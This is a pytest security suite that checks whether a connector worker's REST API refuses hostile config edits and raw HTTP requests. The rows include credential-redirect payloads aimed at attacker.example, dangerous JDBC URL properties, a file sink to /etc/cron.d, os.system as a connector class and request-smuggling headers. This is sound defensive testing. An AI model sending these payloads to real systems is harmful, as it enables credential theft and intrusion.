"""The attack suite: hostile configs and requests a REST user (with a valid login) may send, each with the refusal it
must get. Adding an attack is adding one row to ``ATTACKS`` (JSON requests) or ``RAW_ATTACKS`` (bytes on the wire).

Every row runs against a worker's REST API whose state already holds ``STORED`` (a JDBC source with a password,
stopped, so nothing connects anywhere) and then checks that the stored config is unchanged.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any

import pytest
from rest.security_helpers import raw_request

from spark_connect_bridge.runtime.secrets import mask_config

STORED = {"connector.class": "io.confluent.connect.jdbc.JdbcSourceConnector",
          "connection.url": "jdbc:postgresql://db.example:5432/app?sslmode=require", "connection.user": "app",
          "connection.password": "stored-s3cret", "mode": "bulk", "table.whitelist": "items", "topic.prefix": "pg-",
          "value.converter": "io.confluent.connect.avro.AvroConverter",
          "value.converter.schema.registry.url": "https://registry.example:8081",
          "value.converter.basic.auth.credentials.source": "USER_INFO",
          "value.converter.basic.auth.user.info": "sr:sr-s3cret"}
SHOWN = mask_config(STORED)  # what GET /connectors/stored/config answers
EVIL_PG = "jdbc:postgresql://attacker.example:5432/app"


def shown(**changes: str) -> dict[str, str]:
    """The config as GET showed it, with an attacker's edits (keys written with "_" for ".")."""
    return dict(SHOWN, **{k.replace("_", "."): v for k, v in changes.items()})


def jdbc(url: str) -> dict[str, Any]:
    return {"name": "evil", "config": dict(STORED, **{"connection.url": url})}


def sink_to(file: str) -> dict[str, Any]:
    return {"name": "evil", "config": {"connector.class": "FileStreamSink", "topics": "t", "file": file}}


@dataclass(frozen=True)
class Attack:
    """One hostile request and the answer it must get: ``status`` and every string of ``names`` in the message."""

    what: str
    method: str
    path: str
    body: Any
    status: int
    names: tuple[str, ...] = field(default=())


ATTACKS = [
    # -- issue 33.3: a stored secret sent to a new host ----------------------------------------------------------
    Attack("masked password, new connection.url", "PUT", "/connectors/stored/config",
           shown(connection_url=EVIL_PG), 400, ("connection.password", "connection.url")),
    Attack("masked password, new connection.user", "PUT", "/connectors/stored/config",
           shown(connection_user="postgres"), 400, ("connection.password", "connection.user")),
    Attack("masked password, another connector class", "PUT", "/connectors/stored/config",
           dict(shown(), **{"connector.class": "io.confluent.connect.jdbc.JdbcSinkConnector", "topics": "t"}), 400,
           ("connection.password", "connector.class")),
    Attack("PATCH of connection.url only (the stored password carries over)", "PATCH", "/connectors/stored/config",
           {"connection.url": EVIL_PG}, 400, ("connection.password", "connection.url")),
    Attack("PATCH of the schema registry URL (its stored user info carries over)", "PATCH",
           "/connectors/stored/config", {"value.converter.schema.registry.url": "https://attacker.example"}, 400,
           ("value.converter.basic.auth.user.info", "value.converter.schema.registry.url")),
    Attack("masked user info, another converter", "PUT", "/connectors/stored/config",
           shown(**{"value.converter": "io.confluent.connect.json.JsonSchemaConverter"}), 400,
           ("value.converter.basic.auth.user.info", "value.converter")),
    Attack("masked password inside a URL to another host", "PUT", "/connectors/stored/config",
           shown(connection_url="jdbc:postgresql://attacker.example/app?password=[hidden]"), 400,
           ("connection.url", "[hidden]")),
    Attack("masked password in a new connector", "POST", "/connectors",
           {"name": "copy", "config": dict(SHOWN, **{"connection.url": EVIL_PG})}, 400, ("connection.password",)),
    # -- issue 33.4: URL properties that load classes or read and send files -------------------------------------
    *[Attack(f"PostgreSQL URL property {prop}", "POST", "/connectors", jdbc(f"jdbc:postgresql://h/db?{prop}=x"),
             400, ("connection.url", prop))
      for prop in ("socketFactory", "socketFactoryArg", "sslfactory", "sslhostnameverifier", "sslpasswordcallback",
                   "loggerFile", "authenticationPluginClassName", "jaasApplicationName")],
    *[Attack(f"MySQL/MariaDB URL property {prop}", "POST", "/connectors", jdbc(f"jdbc:{scheme}://h/db?{prop}=true"),
             400, ("connection.url", prop))
      for scheme, prop in (("mysql", "allowLoadLocalInfile"), ("mariadb", "allowLocalInfile"),
                           ("mysql", "allowUrlInLocalInfile"), ("mysql", "autoDeserialize"),
                           ("mariadb", "socketFactory"), ("mysql", "allowPublicKeyRetrieval"))],
    # -- issue 33.5-6: malformed values are a 400, not a 500 ------------------------------------------------------
    Attack("NUL in a file path", "POST", "/connectors", sink_to("data/x\x00.txt"), 400, ("file", "NUL")),
    Attack("offsets that are not a list", "PATCH", "/connectors/stored/offsets", {"offsets": "notalist"}, 400,
           ("offsets",)),
    Attack("offsets that are not objects", "PATCH", "/connectors/stored/offsets", {"offsets": [1, 2]}, 400,
           ("offsets",)),
    Attack("offsets whose partition is not an object", "PATCH", "/connectors/stored/offsets",
           {"offsets": [{"partition": "p", "offset": {}}]}, 400, ("partition",)),
    # -- the hardening of earlier rounds, kept here --------------------------------------------------------------
    Attack("a file outside connector.allowed.paths", "POST", "/connectors", sink_to("/etc/cron.d/evil"), 400,
           ("file", "connector.allowed.paths")),
    Attack("a plugin class from an arbitrary module", "POST", "/connectors",
           {"name": "evil", "config": {"connector.class": "os.system", "topics": "t"}}, 400, ("connector.class",)),
    Attack("a config provider the worker does not enable", "POST", "/connectors",
           {"name": "evil", "config": dict(STORED, **{"connection.password": "${env:HOME}"})}, 400, ("env",)),
]


@dataclass(frozen=True)
class RawAttack:
    """A request written byte by byte (``{port}`` is the worker's); the answer's status and a JSON error body."""

    what: str
    head: str
    body: bytes
    status: int


_POST = "POST /connectors HTTP/1.1\nHost: 127.0.0.1\nContent-Type: application/json\n"
RAW_ATTACKS = [
    RawAttack("two differing Content-Length headers (request smuggling)",  # the first alone would pause it
              "PUT /connectors/stored/pause HTTP/1.1\nHost: 127.0.0.1\nContent-Length: 0\nContent-Length: 40",
              b"", 400),
    RawAttack("a chunked body", _POST + "Transfer-Encoding: chunked", b"2\r\n{}\r\n0\r\n\r\n", 411),
    RawAttack("a 100 KB header", "GET /connectors HTTP/1.1\nHost: 127.0.0.1\nX-Big: " + "a" * 100_000, b"", 431),
    RawAttack("200 headers", "GET /connectors HTTP/1.1\nHost: 127.0.0.1\n"
              + "\n".join(f"X-H{i}: {i}" for i in range(200)), b"", 431),
    RawAttack("a 70 KB path", "GET /connectors/" + "a" * 70_000 + " HTTP/1.1\nHost: 127.0.0.1", b"", 414),
]


@pytest.fixture
def worker(rest_only):
    rest, api = rest_only()
    r = api.call("POST", "/connectors", {"name": "stored", "config": STORED, "initial_state": "STOPPED"})
    assert r.status_code == 201, r.text
    yield rest, api
    assert rest.service.raw_config("stored") == dict(STORED, name="stored")  # no attack changed it
    assert api.get("/connectors") == ["stored"]


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.what for a in ATTACKS])
def test_attack_is_refused(worker, attack):
    _, api = worker
    r = api.call(attack.method, attack.path, attack.body)
    assert r.status_code == attack.status, r.text
    message = r.json()["message"]
    assert r.json()["error_code"] == attack.status
    assert all(name in message for name in attack.names), message
    assert "stored-s3cret" not in message and "sr-s3cret" not in message


@pytest.mark.parametrize("attack", RAW_ATTACKS, ids=[a.what for a in RAW_ATTACKS])
def test_raw_attack_is_answered_and_refused(worker, attack):
    rest, _ = worker
    status, answer = raw_request(rest.port, attack.head, attack.body)
    assert status == attack.status, answer[:300]
    assert json.loads(answer.split(b"\r\n\r\n", 1)[1])["error_code"] == attack.status


def test_the_masked_secret_still_stands_for_the_stored_one_where_it_goes_unchanged(worker):
    # The other side of the rule: GET -> edit an unrelated key -> PUT keeps the stored secrets.
    rest, api = worker
    r = api.call("PUT", "/connectors/stored/config", shown(**{"topic.prefix": "pg2-"}))
    assert r.status_code == 200, r.text
    r = api.call("PATCH", "/connectors/stored/config", {"topic.prefix": "pg-"})
    assert r.status_code == 200, r.text
    r = api.call("PATCH", "/connectors/stored/config", {"connection.url": EVIL_PG, "connection.password": "typed"})
    assert r.status_code == 200, r.text  # the request carries the secret itself: it is the sender's to give
    assert rest.service.raw_config("stored")["connection.password"] == "typed"
    api.call("PUT", "/connectors/stored/config", STORED)  # as it was, for the fixture's check
